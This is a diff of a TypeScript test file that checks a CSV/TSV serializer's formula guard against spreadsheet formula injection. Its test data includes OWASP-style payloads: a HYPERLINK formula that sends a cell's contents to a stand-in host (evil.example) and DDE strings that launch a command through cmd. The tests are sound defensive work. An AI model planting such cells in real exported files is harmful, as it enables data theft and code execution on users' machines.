@@ -50,6 +50,15 @@ describe.each(['csv', 'tsv'] as const)('%s serializer', (kind) => {
   });
 });
 
+describe('tsv serializer', () => {
+  it('neutralises formula cells with formulaGuard, after tabs and breaks became spaces', () => {
+    const rec = { a: '=1+1', b: '\t@SUM(A1)', c: '-3', d: '\tsafe' };
+    const text = render('tsv', ['a', 'b', 'c', 'd'], [rec], { formulaGuard: true });
+    expect(text.split('\n')[1]).toBe("'=1+1\t' @SUM(A1)\t-3\t safe");
+    expect(render('tsv', ['a'], [{ a: '=1+1' }]).split('\n')[1]).toBe('=1+1');
+  });
+});
+
 describe('csv serializer', () => {
   it('quotes only when needed and doubles quotes (RFC 4180)', () => {
     const text = render('csv', ['a', 'b', 'c'], [{ a: 'plain', b: 'say "hi"', c: 'x,y' }]);
@@ -60,7 +69,31 @@ describe('csv serializer', () => {
     const rec = { a: '=SUM(A1)', b: '+1', c: '-5%', d: '@x', e: 'safe' };
     const cols = ['a', 'b', 'c', 'd', 'e'];
     expect(parseTabular(render('csv', cols, [rec]), 'csv')[1]).toEqual(['=SUM(A1)', '+1', '-5%', '@x', 'safe']);
-    expect(parseTabular(render('csv', cols, [rec], { formulaGuard: true }), 'csv')[1]).toEqual(["'=SUM(A1)", "'+1", "'-5%", "'@x", 'safe']);
+    // +1 is a number to every spreadsheet, not a formula: left as it is.
+    expect(parseTabular(render('csv', cols, [rec], { formulaGuard: true }), 'csv')[1]).toEqual(["'=SUM(A1)", '+1', "'-5%", "'@x", 'safe']);
+  });
+
+  it("neutralises OWASP's formula cells, and quotes a `;` a semicolon spreadsheet would split at", () => {
+    const cells = {
+      link: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      dde: "+cmd|' /C calc'!A0",
+      sum: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      minus: '-2+3+cmd|\' /C calc\'!A0',
+      spaced: '  =1+1',
+      tab: '\t=1+1',
+      cr: '\r=1+1',
+      split: 'Mug;=HYPERLINK("http://evil.example")',
+      numbers: '-12.50',
+      comma: '-0,5',
+      plain: 'Mug - red',
+    };
+    const cols = Object.keys(cells);
+    const text = render('csv', cols, [cells], { formulaGuard: true });
+    expect(parseTabular(text, 'csv')[1]).toEqual([
+      `'${cells.link}`, `'${cells.dde}`, `'${cells.sum}`, `'${cells.minus}`, "'  =1+1", "'\t=1+1", "'\r=1+1",
+      cells.split, '-12.50', '-0,5', 'Mug - red',
+    ]);
+    expect(text).toContain('"Mug;=HYPERLINK(""http://evil.example"")"');
   });
 
   it('ends lines with LF by default and with eol when given', () => {
